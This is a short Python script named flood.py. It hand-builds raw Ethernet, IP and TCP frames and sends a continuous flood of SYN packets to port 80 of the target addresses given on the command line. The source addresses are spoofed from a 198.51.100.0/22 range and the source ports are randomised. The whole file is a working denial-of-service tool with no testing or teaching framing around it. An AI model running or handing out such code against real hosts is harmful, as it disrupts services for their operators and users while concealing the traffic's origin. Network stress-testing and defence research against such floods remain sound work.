"""flood.py DEVICE MAC ADDRESS...: SYNs to port 80 of each, from addresses of 198.51.100.0/22, as fast as may be, until its
standard input ends. Then it prints how many there were."""
import random
import select
import socket
import struct
import sys


def folded(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(head, to):
    source = bytes([198, 51, random.randrange(100, 104), random.randrange(1, 255)])
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 5 << 4, 2, 1000, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", folded(source + to + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + source + to
    return head + ip[:10] + struct.pack("!H", folded(ip)) + ip[12:] + tcp


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((sys.argv[1], 0))
head = bytes.fromhex(sys.argv[2].replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
frames = [syn(head, socket.inet_aton(to)) for _ in range(2000) for to in sys.argv[3:]]
sent = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    for frame in frames[sent % 4000:][:200]:
        try:
            wire.send(frame)
        except OSError:  # no room on the wire
            pass
        sent += 1
print(sent)
